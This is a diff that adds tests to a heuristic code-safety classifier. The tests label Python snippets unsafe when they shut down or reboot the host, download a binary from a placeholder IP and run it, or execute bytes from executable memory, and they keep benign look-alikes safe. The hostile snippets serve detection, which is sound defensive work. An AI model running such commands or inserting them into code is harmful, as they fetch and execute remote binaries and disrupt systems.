@@ -644,3 +644,38 @@ describe("classifyCodeHeuristic: split strings, import aliases and one-by-one de
     safe("parts = ''.join(chr(c) for c in [72, 105])\nprint(parts)");
   });
 });
+
+describe("classifyCodeHeuristic: host power, programs fetched to a path, executable memory", () => {
+  test("a runner told to stop or restart the host is host tampering", () => {
+    unsafe("import os\nos.system('shutdown -h now')", 1);
+    unsafe("import os as operating\noperating.system('sudo reboot')", 1);
+    unsafe("import subprocess\nsubprocess.run(['systemctl', 'poweroff'])", 1);
+  });
+
+  test("a program downloaded to an extensionless path and run is download-then-execute", () => {
+    unsafe(
+      "import urllib.request, subprocess\nurllib.request.urlretrieve('http://198.51.100.3/bin', '/tmp/bin')\nsubprocess.run(['chmod', '+x', '/tmp/bin']); subprocess.run(['/tmp/bin'])\n",
+      6,
+    );
+  });
+
+  test("machine code written into executable memory and called is multi-step", () => {
+    unsafe(
+      "import ctypes, mmap\nbuf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nbuf.write(b'\\x90' * 100)\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))()\n",
+      6,
+    );
+  });
+
+  test("the same words in ordinary work stay SAFE", () => {
+    safe(
+      "from concurrent.futures import ThreadPoolExecutor\nex = ThreadPoolExecutor()\nex.shutdown(wait=True)",
+    );
+    safe("print('reboot required after the kernel update')");
+    safe(
+      "import urllib.request, subprocess\nurllib.request.urlretrieve('https://example.org/data.csv', '/tmp/data.csv')\nprint(subprocess.run(['wc', '-l', '/tmp/data.csv'], capture_output=True).stdout)\n",
+    );
+    safe(
+      "import mmap\nwith open('data.bin', 'rb') as f:\n    m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)\n    print(m[:4])",
+    );
+  });
+});
